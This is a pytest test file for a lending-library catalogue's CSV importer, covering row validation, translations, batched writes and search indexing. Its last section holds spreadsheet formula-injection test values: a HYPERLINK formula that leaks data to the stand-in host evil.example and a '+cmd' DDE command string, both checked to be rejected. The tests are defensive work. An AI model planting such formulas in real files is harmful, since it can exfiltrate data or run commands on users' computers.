"""Importing catalogue items from a CSV file: the rows created, updated, unchanged or
rejected, their translations, the writes in batches, and cells a spreadsheet would run.

The copies rows stand for, the rows of one item and importing a file again are tested in
``test_csv_import_copies.py``, reading the file (encodings, whole-file refusals, the command)
in ``test_csv_import_files.py``, the admin's import view in ``test_csv_import_admin.py``; they
use the helpers and files of this module. The ``lenders`` fixture is in ``conftest.py``.
"""

from decimal import Decimal

import pytest
import wagtail_factories

from django.db import connection
from django.utils import translation

from wagtail.models import Revision
from wagtail.search.backends import get_search_backend

from catalogue.csv_import import import_items, importer
from catalogue.models import Copy, Item, ItemImage
from search.api import CatalogueQuery, search_catalogue
from tests import factories

pytestmark = pytest.mark.django_db


ENGLISH_FILE = (
    "code,name,category,description,brand,contents,age_min_months,age_max_months,"
    "condition,status,deposit,loan_days,naam_fr,omschrijving_fr,naam_en,omschrijving_en\n"
    "IN-0101,Klopboormachine,boren,Boort in beton.,Bosch,koffer|3 boren,,,good,available,"
    "25.00,7,Perceuse à percussion,Perce le béton.,Hammer drill,Drills concrete.\n"
    'IN-0102,Kinderfiets,Fietsen,"Voor kleine\nfietsers.",Btwin,,36,72,new,in_repair,,,,,,\n'
)


# Rows 2 and 3 are copies of one item (the same name and brand), row 4 another brand.
COPIES_FILE = (
    "code;naam;merk;categorie;omschrijving;staat;status;aantal;naam_fr\n"
    "IN-0100;Klopboormachine;Bosch;boren;Boort in beton.;good;available;3;Perceuse\n"  # row 2
    "IN-0200; klopboormachine ;BOSCH ;;;worn;in_repair;;\n"  # row 3: the same item
    "IN-0300;Klopboormachine;Makita;boren;;new;;;\n"  # row 4: another brand, another item
    "IN-0400;Kinderfiets;;fietsen;;;;2;\n"  # row 5
)


def run(initiative, data, **kwargs):
    with translation.override("en"):
        return import_items(initiative, data, **kwargs)


def counts(report):
    """The items and copies created and changed, as the report says them in English."""
    with translation.override("en"):
        return report.counts()


def dutch(code):
    """The Dutch item of the copy with this code."""
    return Item.objects.get(copies__code=code)


def copy(code):
    return Copy.objects.get(code=code)


def codes_of(item):
    return sorted(
        Copy.objects.filter(item__translation_key=item.translation_key).values_list(
            "code", flat=True
        )
    )


def found(text, language="nl"):
    """The first copy code of each item the catalogue search finds."""
    items = search_catalogue(CatalogueQuery(text=text, language=language)).items
    return [codes_of(item)[0] for item in items]


# A good file -------------------------------------------------------------------------------


def test_a_good_file_creates_published_searchable_items_with_translations(lenders):
    report = run(lenders["tools"], ENGLISH_FILE)

    assert (len(report.created), len(report.updated), len(report.rejected)) == (2, 0, 0)
    drill = dutch("IN-0101")
    assert drill.initiative_id == lenders["tools"].pk
    assert drill.category == lenders["drills"]
    assert drill.contents_list() == ["koffer", "3 boren"]
    assert drill.deposit == Decimal("25.00") and drill.loan_days == 7
    assert drill.live and drill.live_revision is not None
    bike = dutch("IN-0102")
    assert bike.category == lenders["bikes"]  # by its Dutch name
    assert bike.description == "Voor kleine\nfietsers."
    assert (bike.age_min_months, bike.age_max_months) == (36, 72)
    assert (copy("IN-0102").condition, copy("IN-0102").status) == ("new", "in_repair")
    assert codes_of(drill) == ["IN-0101"] and copy("IN-0101").condition == "good"
    assert drill.slug == "klopboormachine"

    french = drill.get_translation(factories.locales()["fr"])
    assert (french.name, french.description) == ("Perceuse à percussion", "Perce le béton.")
    assert french.live and french.live_revision is not None
    assert drill.get_translation(factories.locales()["en"]).name == "Hammer drill"
    assert bike.get_translation_or_none(factories.locales()["fr"]) is None

    assert found("klopboormachine") == ["IN-0101"]
    assert found("kinderfiets") == ["IN-0102"]
    assert found("perceuse", "fr") == ["IN-0101"]
    assert found("hammer", "en") == ["IN-0101"]


def test_a_changed_row_updates_the_item_and_its_translations_follow(lenders):
    run(lenders["tools"], ENGLISH_FILE)
    changed = ENGLISH_FILE.replace("IN-0101,Klopboormachine,boren", "IN-0101,Boorhamer,fietsen")
    changed = changed.replace("good,available,25.00", "worn,retired,30")
    changed = changed.replace("Hammer drill,", "Rotary hammer,")

    report = run(lenders["tools"], changed)

    assert [row.code for row in report.updated] == ["IN-0101"]
    assert [row.code for row in report.unchanged] == ["IN-0102"]
    drill = dutch("IN-0101")
    assert (drill.name, drill.category, drill.slug) == (
        "Boorhamer",
        lenders["bikes"],
        "klopboormachine",
    )
    assert (copy("IN-0101").status, copy("IN-0101").condition) == ("retired", "worn")
    assert drill.deposit == Decimal("30")
    french = drill.get_translation(factories.locales()["fr"])
    english = drill.get_translation(factories.locales()["en"])
    assert english.name == "Rotary hammer"
    # The shared values are copies in each language: they must follow the Dutch item.
    assert (french.category_id, french.deposit, french.slug) == (
        lenders["bikes"].pk,
        Decimal("30"),
        "klopboormachine",
    )
    assert (report.items_changed, report.copies_changed) == (1, 1)
    assert found("boorhamer") == []  # an item without copies in the collection is not shown


def test_a_translation_added_to_an_item_with_a_photo_gets_the_photo_too(lenders):
    item = factories.build_item(lenders["tools"], lenders["drills"], "Boor", "IN-0901")
    photo = wagtail_factories.ImageFactory()
    ItemImage.objects.create(item=item, image=photo)

    report = run(lenders["tools"], "code;naam;categorie;naam_fr\nIN-0901;Boor;boren;Perceuse\n")

    assert [(row.code, row.translations) for row in report.updated] == [("IN-0901", ["fr"])]
    french = item.get_translation(factories.locales()["fr"])
    assert french.live and french.name == "Perceuse"
    assert [image.image_id for image in french.images.all()] == [photo.pk]
    assert [image.image_id for image in item.images.all()] == [photo.pk]


# Bad rows -----------------------------------------------------------------------------------

BAD_ROWS = (
    "code;naam;categorie;leeftijd_van_maanden;leeftijd_tot_maanden;waarborg;status\n"
    "OK-1;Goede boor;boren;;;;\n"  # row 2
    "BAD-1;Zaag;zagen;;;;\n"  # row 3: unknown category
    "BAD-2;;boren;;;;\n"  # row 4: no name
    "OK-1;Tweede boor;boren;;;;\n"  # row 5: repeated code
    "BAD-3;Loopfiets;fietsen;48;24;;\n"  # row 6: age range upside down
    "BAD-4;Schuurmachine;boren;;;twaalf;\n"  # row 7: not a number
    "BAD-5;Ladder;boren;;;;kapot\n"  # row 8: unknown status
    "OK-2;Goede ladder;boren;;;5,00;available\n"  # row 9
)


@pytest.mark.parametrize(
    ("row", "code", "reason"),
    [
        (3, "BAD-1", "categorie: Unknown category “zagen”"),
        (4, "BAD-2", "naam: This field cannot be blank."),
        (5, "OK-1", "The code OK-1 already occurs in row 2: each copy once per file."),
        (6, "BAD-3", "leeftijd_tot_maanden: The upper age must be at least the lower age."),
        (7, "BAD-4", "waarborg: “twaalf” value must be a decimal number."),
        (8, "BAD-5", "status: Value 'kapot' is not a valid choice."),
    ],
)
def test_each_bad_row_is_reported_with_its_row_and_reason_and_the_rest_imported(
    lenders, row, code, reason
):
    report = run(lenders["tools"], BAD_ROWS)

    rejected = {(result.row, result.code): result.reason for result in report.rejected}
    assert reason in rejected[row, code]
    assert len(rejected) == 6
    assert [result.code for result in report.created] == ["OK-1", "OK-2"]
    assert dutch("OK-1").name == "Goede boor"  # the first occurrence won
    assert set(Copy.objects.values_list("code", flat=True)) == {"OK-1", "OK-2"}
    assert Item.objects.count() == 2


def test_a_rejected_row_saves_nothing_of_itself(lenders):
    too_long = "x" * 200
    data = (
        "code;naam;categorie;naam_fr\n"
        f"IN-0401;Tegelsnijder;boren;{too_long}\n"
        "IN-0402;Zaag;boren;Scie\n"
    )

    report = run(lenders["tools"], data)

    assert [(r.row, r.code) for r in report.rejected] == [(2, "IN-0401")]
    assert "naam_fr: Ensure this value has at most 120 characters" in report.rejected[0].reason
    assert not Copy.objects.filter(code="IN-0401").exists()
    assert set(Item.objects.values_list("name", "locale__language_code")) == {
        ("Zaag", "nl"),
        ("Scie", "fr"),
    }
    assert found("tegelsnijder") == []
    assert found("zaag") == ["IN-0402"]


def test_a_row_with_more_cells_than_columns_is_rejected_with_a_hint(lenders):
    data = "code,naam,categorie,waarborg\nIN-0501,Boor,boren,12,50\n"

    report = run(lenders["tools"], data)

    assert report.rejected[0].row == 2
    assert "more cells than the file has columns" in report.rejected[0].reason
    assert not Item.objects.exists()


def test_a_check_only_run_saves_nothing_but_reports_what_would_happen(lenders):
    report = run(lenders["tools"], BAD_ROWS, dry_run=True)

    assert report.dry_run
    assert (len(report.created), len(report.rejected)) == (2, 6)
    with translation.override("en"):
        assert "nothing saved" in report.summary()
    with translation.override("nl"):
        assert "niets opgeslagen" in report.summary()
    assert not Item.objects.exists()
    assert not Revision.objects.filter(base_content_type__model="item").exists()
    assert found("boor") == []


def test_a_check_only_run_reports_what_the_import_then_does(lenders):
    run(lenders["tools"], ENGLISH_FILE)
    data = ENGLISH_FILE.replace("Hammer drill,", "Rotary hammer,") + (
        "IN-0103,Zaag,zagen,,,,,,,,,,,,,\n"
        "IN-0104,Loopfiets,boren,,,,48,24,,,,,,,,\n"
        "IN-0105,=1+1,boren,,,,,,,,,,,,,\n"
        "IN-0106,Schuurmachine,boren,,,,,,,,twaalf,,Ponceuse,,,\n"
        "IN-0107,Tegelsnijder,boren,,,,,,,,,,Coupe-carreaux,,,\n"
        "IN-0101,Boor,boren,,,,,,,,,,,,,\n"
    )

    def outcome(report):
        return {
            key: [(row.row, row.code, row.reason, row.translations) for row in getattr(report, key)]
            for key in ("created", "updated", "unchanged", "rejected")
        }

    checked = run(lenders["tools"], data, dry_run=True)
    imported = run(lenders["tools"], data)

    assert outcome(checked) == outcome(imported)
    assert [(row.code, row.translations) for row in imported.updated] == [("IN-0101", ["en"])]
    assert [row.code for row in imported.unchanged] == ["IN-0102"]
    assert [(row.code, row.translations) for row in imported.created] == [("IN-0107", ["fr"])]
    assert len(imported.rejected) == 5


def test_with_productions_task_backend_wagtails_indexes_follow_in_one_task(lenders, settings):
    from django_tasks_db.models import DBTaskResult

    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    report = run(lenders["tools"], ENGLISH_FILE)

    assert len(report.created) == 2
    assert found("hammer", "en") == ["IN-0101"]  # the catalogue's own index: at once
    queued = list(DBTaskResult.objects.values_list("task_path", flat=True))
    assert queued == ["catalogue.bulk_publish.update_wagtail_indexes"]
    assert not get_search_backend().search("klopboormachine", Item)

    # What the worker does with the row (the worker itself closes the test's connection).
    queued_task = DBTaskResult.objects.get()
    queued_task.task.call(*queued_task.args_kwargs["args"], **queued_task.args_kwargs["kwargs"])

    assert [item.name for item in get_search_backend().search("klopboormachine", Item)] == [
        "Klopboormachine"
    ]


def count_queries(action):
    # CaptureQueriesContext stops counting at 9,000 queries; a wrapper counts them all.
    count = 0

    def counter(execute, sql, params, many, context):
        nonlocal count
        count += 1
        return execute(sql, params, many, context)

    with connection.execute_wrapper(counter):
        action()
    return count


def test_the_queries_of_an_import_do_not_grow_with_its_rows(lenders):
    # Rows are checked against what was read once, then written a batch at a time: a file of
    # 1,000 rows must answer within a request (bench/csv_import.py measures it).
    def data(count, start):
        rows = "".join(f"Q-{n};Boor {n};boren;Perceuse {n}\n" for n in range(start, start + count))
        return f"code;naam;categorie;naam_fr\n{rows}"

    def queries(count, start, **kwargs):
        return count_queries(lambda: run(lenders["tools"], data(count, start), **kwargs))

    checked = queries(45, 300, dry_run=True) - queries(5, 400, dry_run=True)
    five, forty_five = queries(5, 0), queries(45, 100)
    # Per new row, only Wagtail's copying of the French translation (its own two savepoints).
    assert checked / 40 <= 5, checked
    assert (forty_five - five) / 40 <= 5, (five, forty_five)
    assert five < 60  # the reads at the start, one batch of writes, the indexes
    # Unchanged rows read and write nothing of their own.
    assert queries(45, 100) == queries(5, 0) < 30
    assert Item.objects.filter(locale__language_code="nl").count() == 50


def test_rows_are_written_in_batches_and_a_row_the_database_refuses_is_rejected_alone(
    lenders, monkeypatch
):
    # Another save after the file was checked (here a French item with the address row 4's
    # item gets, made meanwhile): the batch holding that row is written again row by row.
    monkeypatch.setattr(importer, "BATCH_ROWS", 2)
    load = importer.Importer._load

    def load_then_someone_saves(importer):
        load(importer)
        Item.objects.create(
            initiative=lenders["tools"],
            category=lenders["drills"],
            slug="boor-3",
            name="Boor van iemand anders",
            locale=factories.locales()["fr"],
        )

    monkeypatch.setattr(importer.Importer, "_load", load_then_someone_saves)
    rows = "".join(f"R-{n};Boor {n};boren;Perceuse {n}\n" for n in range(1, 6))
    progress = []

    with translation.override("en"):
        report = import_items(
            lenders["tools"],
            "code;naam;categorie;naam_fr\n" + rows,
            progress=lambda done, total: progress.append((done, total)),
        )

    assert [(r.row, r.code) for r in report.rejected] == [(4, "R-3")]
    assert "This row could not be saved" in report.rejected[0].reason
    assert [r.code for r in report.created] == ["R-1", "R-2", "R-4", "R-5"]
    assert (report.items_created, report.copies_created) == (4, 4)
    assert progress == [(n, 5) for n in range(1, 6)]
    assert not Copy.objects.filter(code="R-3").exists()
    assert not Item.objects.filter(name="Boor 3").exists()
    assert dutch("R-4").get_translation(factories.locales()["fr"]).name == "Perceuse 4"
    assert found("boor") == ["R-1", "R-2", "R-4", "R-5"]


def test_an_address_in_use_in_the_initiative_is_not_given_again(lenders):
    # A French item of the initiative with the address "boor" but no Dutch item (made in the
    # admin): the new item and its translation get another address.
    Item.objects.create(
        initiative=lenders["tools"],
        category=lenders["drills"],
        slug="boor",
        name="Perceuse orpheline",
        locale=factories.locales()["fr"],
    )

    report = run(lenders["tools"], "code;naam;categorie;naam_fr\nIN-0801;Boor;boren;Perceuse\n")

    assert not report.rejected
    item = dutch("IN-0801")
    assert item.slug == "boor-2"
    assert item.get_translation(factories.locales()["fr"]).slug == "boor-2"


# Spreadsheet formulas ------------------------------------------------------------------------

FORMULA_ROWS = (
    "code;naam;categorie;merk;waarborg;uitleendagen;inhoud;naam_fr\n"
    'F-1;=HYPERLINK("https://evil.example/?leak";"Boor");boren;;;;;\n'  # row 2
    "F-2;Boor;boren;+cmd|' /C calc'!A0;;;;\n"  # row 3
    "F-3;Zaag;boren;;;;;@SUM(1+1)\n"  # row 4
    "-2+3;Ladder;boren;;;;;\n"  # row 5
    '"F-5";"\t=1+1";boren;;;;;\n'  # row 6: a tab before the formula
    "F-6;Schuurmachine;boren;;-5;;;\n"  # row 7: a number, but no negative deposit
    "F-7;Decoupeerzaag;boren;-;12,50;+14;- koffer | - 2 zaagbladen;- Scie sauteuse\n"  # row 8
    "F-8;Boormachine;boren;Bosch;+12,50;14;koffer;Perceuse\n"  # row 9
)


@pytest.mark.parametrize(
    ("row", "code", "reason"),
    [
        (2, "F-1", "naam: a cell may not start with =, +, - or @: spreadsheet programs run it"),
        (3, "F-2", "merk: a cell may not start with =, +, - or @: spreadsheet programs run it"),
        (4, "F-3", "naam_fr: a cell may not start with =, +, - or @: spreadsheet programs run"),
        (5, "-2+3", "code: a cell may not start with =, +, - or @"),
        (6, "F-5", "naam: a cell may not start with"),
        (7, "F-6", "waarborg: Ensure this value is greater than or equal to 0."),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_rejected(lenders, row, code, reason):
    report = run(lenders["tools"], FORMULA_ROWS)

    rejected = {(result.row, result.code): result.reason for result in report.rejected}
    assert reason in rejected[row, code]
    assert len(rejected) == 7
    assert "“=”" in rejected[2, "F-1"] and "“-”" in rejected[5, "-2+3"]


def test_numbers_and_list_markers_are_not_formulas(lenders):
    report = run(lenders["tools"], FORMULA_ROWS)

    assert [result.code for result in report.created] == ["F-8"]
    assert (8, "F-7") in {(result.row, result.code) for result in report.rejected}
    reasons = next(result.reasons for result in report.rejected if result.code == "F-7")
    # The brand "-" and the French name "- Scie sauteuse" are refused; the loan days +14 and
    # the contents with list markers are not.
    assert [reason.split(":")[0] for reason in reasons] == ["merk", "naam_fr"]
    assert dutch("F-8").deposit == Decimal("12.50")

    data = "code;naam;categorie;uitleendagen;inhoud\nF-9;Zaag;boren;+14;- koffer | • 2 bladen\n"
    run(lenders["tools"], data)
    assert dutch("F-9").loan_days == 14
    assert dutch("F-9").contents == "koffer\n2 bladen"
    stored = Item.objects.values_list("name", "brand", "contents", "description")
    assert not [value for row in stored for value in row if value.startswith(("=", "+", "-", "@"))]


def test_the_formula_rule_is_explained_in_dutch_too(lenders):
    with translation.override("nl"):
        report = import_items(lenders["tools"], FORMULA_ROWS, dry_run=True)

    reason = next(result.reason for result in report.rejected if result.code == "F-1")
    assert reason.startswith("naam: een cel mag niet beginnen met =, +, - of @")
